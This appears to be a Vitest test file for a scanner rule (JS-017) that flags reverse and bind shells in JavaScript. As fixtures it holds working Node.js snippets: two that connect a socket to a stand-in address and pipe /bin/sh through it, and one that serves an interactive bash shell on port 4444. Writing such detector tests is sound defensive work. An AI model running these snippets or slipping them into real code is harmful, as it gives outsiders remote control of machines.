import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-017 reverse-shell', () => {
  it('flags a socket piped into /bin/sh', async () => {
    const code = `const net = require('net'), cp = require('child_process');
      const c = new net.Socket(); c.connect(4444, '192.0.2.1', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });`;
    const f = await ruleFindings('JS-017', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
  });
  it('ignores a TCP client without a shell', async () => {
    const code =
      "const net = require('net'); const c = net.connect(6379, 'localhost'); c.pipe(process.stdout);";
    expect(await ruleFindings('JS-017', code)).toHaveLength(0);
  });
  it('flags the classic one-liner and a bind shell on a server socket', async () => {
    const classic = `(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
      var client = new net.Socket(); client.connect(8080, "192.0.2.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
      return /a/; })();`;
    expect(await ruleFindings('JS-017', classic)).toHaveLength(1);
    const bind = `const net = require('net'); const { spawn } = require('child_process');
      net.createServer((sock) => { const sh = spawn('/bin/bash', ['-i']); sock.pipe(sh.stdin); sh.stdout.pipe(sock); }).listen(4444);`;
    expect(await ruleFindings('JS-017', bind)).toHaveLength(1);
  });
  it('needs a pipe that joins the socket and the shell, not three unrelated pieces of a bundle', async () => {
    const bundle = `const net = require('net'), cp = require('child_process'), fs = require('fs');
      function ping(port) { const c = net.connect(port, 'localhost'); c.on('connect', () => c.end()); }
      function processes() { return cp.spawn('powershell.exe', ['-NoProfile', '-Command', 'Get-CimInstance Win32_Process']); }
      function copy(a, b) { fs.createReadStream(a).pipe(fs.createWriteStream(b)); }
      module.exports = { ping, processes, copy };`;
    expect(await ruleFindings('JS-017', bundle)).toHaveLength(0);
  });
});
